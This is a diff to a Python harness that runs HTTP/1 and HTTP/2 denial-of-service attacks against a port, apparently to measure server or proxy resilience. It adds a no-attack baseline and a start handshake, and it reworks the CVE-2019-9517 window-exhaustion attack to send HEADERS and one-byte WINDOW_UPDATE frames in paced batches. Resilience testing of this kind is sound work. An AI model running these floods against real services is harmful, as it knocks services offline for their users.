@@ -43,6 +43,11 @@ class Plain:
         return b""
 
 
+class Nothing(Plain):
+    """No connection: what the attacker's own process costs the load beside it."""
+    conns = 0
+
+
 class SlowHeads(Plain):
     """Slowloris: a byte of a head every second."""
     conns = 2000
@@ -143,19 +148,22 @@ class EmptyData(Http2):
 
 
 class Windows(Http2):
-    """CVE-2019-9517: 100 answers of 1 MiB a connection, and no window to send them in but a byte a second."""
-    conns, opens_per_second, every = 50, 100, 1.0
+    """CVE-2019-9517: up to 100 answers of 64 KiB a connection, and no window to send them in but a byte a second. Five are asked for at a
+    time: a hundred requests at once would keep the good client waiting whatever becomes of their answers."""
+    conns, opens_per_second = 50, 5
+    asked = block("GET", proxies.sized_path(64))
 
     def first(self):
-        asked = block("GET", proxies.sized_path(1024))
-        return greeting((4, 0)) + b"".join(frame(HEADERS, 5, s, asked) for s in range(1, 201, 2))
+        return greeting((4, 0))
 
     def again(self, turn):
-        return b"".join(frame(WINDOW, 0, s, struct.pack(">I", 1)) for s in range(1, 201, 2))
+        fresh = range(turn * 10 + 1, turn * 10 + 11, 2) if turn < 20 else ()
+        turned = range(turn % 10 * 2 + 1, min(turn, 20) * 10, 20)
+        return b"".join([frame(HEADERS, 5, s, self.asked) for s in fresh] + [frame(WINDOW, 0, s, struct.pack(">I", 1)) for s in turned])
 
 
 ATTACKS = {
-    "slow heads": SlowHeads, "slow bodies": SlowBodies, "slow readers": SlowReaders, "header bombs": HeaderBombs, "connections": Connections,
+    "nothing": Nothing, "slow heads": SlowHeads, "slow bodies": SlowBodies, "slow readers": SlowReaders, "header bombs": HeaderBombs, "connections": Connections,
     "rapid reset": RapidReset, "continuations": Continuations, "pings": Pings, "settings": SettingsFlood, "empty data": EmptyData, "windows": Windows,
 }
 
@@ -242,6 +250,8 @@ def main():
     kind = ATTACKS[name]
     attack = kind(int(sys.argv[4])) if kind is Connections else kind()
     attacker = Attacker(attack, port)
+    print("ready", flush=True)
+    sys.stdin.readline()
     attacker.run(seconds)
     print(json.dumps({"opened": attacker.opened, "open": len(attacker.live), "bytes": attacker.sent, "closed": attacker.closed,
                       "answers": attacker.answers}))
